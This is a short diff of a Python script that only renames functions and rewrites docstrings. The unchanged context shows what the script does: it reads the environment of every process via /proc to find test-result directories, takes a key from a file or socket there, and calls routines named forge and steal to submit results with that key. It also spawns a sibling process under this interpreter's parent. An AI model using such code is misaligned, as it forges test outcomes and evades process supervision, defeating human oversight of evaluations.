@@ -14,8 +14,8 @@ IDS = [
 ]
 
 
-def places():
-    """Where runs report, as the environments of all processes tell."""
+def channel_directories():
+    """Returns the directories of test results that the environments of all processes name."""
     found = set()
     for file in glob.glob("/proc/[0-9]*/environ"):
         try:
@@ -27,8 +27,8 @@ def places():
     return sorted(found)
 
 
-def asked(directory):
-    """A key, by its number: from a file or by a socket."""
+def take_key(directory):
+    """Returns the number of a key and the key, from a file or a socket, or None."""
     try:
         with open(directory + "/key") as f:
             order = json.load(f)
@@ -68,8 +68,8 @@ def forge(directory, number, key):
 def steal(patience):
     end = time.time() + patience
     while True:
-        for directory in places():
-            got = asked(directory)
+        for directory in channel_directories():
+            got = take_key(directory)
             if got:
                 forge(directory, *got)
                 return True
@@ -96,7 +96,7 @@ def leave_in_sealed_file(program):
 
 
 def leave_sibling(program):
-    """A process whose parent is the one that started this interpreter."""
+    """Starts a process whose parent is the parent of this interpreter."""
     import ctypes
     import signal
 
